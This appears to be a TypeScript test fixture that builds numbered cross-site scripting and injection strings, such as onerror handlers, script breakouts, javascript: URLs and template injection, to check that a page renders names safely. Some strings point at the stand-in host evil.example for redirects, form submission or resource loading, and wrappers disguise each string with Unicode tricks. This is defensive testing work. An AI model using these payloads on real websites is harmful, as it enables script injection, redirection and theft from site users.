/**
 * What somebody who may write a name writes to have a page run it (rel:X1). Each bears a number: `§n§` is shown as text, and as
 * markup it would leave an element with `data-xs`, or write `ranXs`.
 */
const PATTERNS: readonly string[] = [
  '<img src=x data-xs=N onerror="ranXs=N">',
  '<svg data-xs=N onload="ranXs=N">',
  '"><svg/data-xs=N/onload=ranXs=N>',
  "'><img data-xs=N src=x onerror=ranXs=N>",
  '<script data-xs=N>ranXs=N</script>',
  '</script><script data-xs=N>ranXs=N</script>',
  '</title><i data-xs=N>',
  '</textarea><i data-xs=N>',
  '</style><style data-xs=N>*{color:red}</style>',
  '--><i data-xs=N>',
  ']]><i data-xs=N>',
  '<iframe data-xs=N srcdoc="<script>top.ranXs=N</script>">',
  '<object data-xs=N data="data:text/html,N">',
  '<embed data-xs=N src="//evil.example/N">',
  '<link data-xs=N rel=stylesheet href="//evil.example/N">',
  '<base data-xs=N href="//evil.example/">',
  '<meta data-xs=N http-equiv=refresh content="0;url=//evil.example/N">',
  '<form data-xs=N action="//evil.example/"><input name=a>',
  '<a data-xs=N href="javascript:ranXs=N">x</a>',
  'javascript:ranXs=N//',
  '<details data-xs=N open ontoggle=ranXs=N>',
  '<input data-xs=N autofocus onfocus=ranXs=N>',
  '<video data-xs=N><source onerror=ranXs=N>',
  '<math data-xs=N><mi xlink:href="javascript:ranXs=N">',
  '<template data-xs=N><img src=x onerror=ranXs=N></template>',
  '<img data-xs=N src=//evil.example/N.png>',
  '&lt;img data-xs=N src=x onerror=ranXs=N&gt;',
  '&#60;i data-xs=N&#62;',
  '\\u003ci data-xs=N\\u003e',
  '%3Ci%20data-xs=N%3E',
  '{{constructor.constructor("ranXs=N")()}}',
  '${ranXs=N}',
  '`;ranXs=N;`',
  '");ranXs=N;//',
  "');ranXs=N;//",
  '[x](javascript:ranXs=N)',
  '<style data-xs=N>@import "//evil.example/N"</style>',
  'expression(ranXs=N)',
  'url(//evil.example/N)',
  '__proto__[xs]=N',
];

/** Around them: what hides markup from who looks for it. */
const AROUND: readonly ((text: string) => string)[] = [
  (text) => text,
  (text) => text.toUpperCase().replaceAll('DATA-XS', 'data-xs').replaceAll('RANXS', 'ranXs'),
  (text) => `\u202E${text}\u202C`,
  (text) => `\u200B${text}`,
  (text) => text.replace(' ', '\t'),
  (text) => `x"'>${text}`,
  (text) => `a\u0301${text}`,
  (text) => text.replace(' ', '/'),
];

/** How many different ones there are, their number aside. */
export const HOSTILE_TEXTS = PATTERNS.length * AROUND.length;

/** The n-th hostile text, with its number. */
export function hostileText(n: number): string {
  const pattern = PATTERNS[n % PATTERNS.length] ?? '';
  const around = AROUND[Math.floor(n / PATTERNS.length) % AROUND.length] ?? String;
  return `${around(pattern.replaceAll('N', String(n)))} §${n}§`;
}
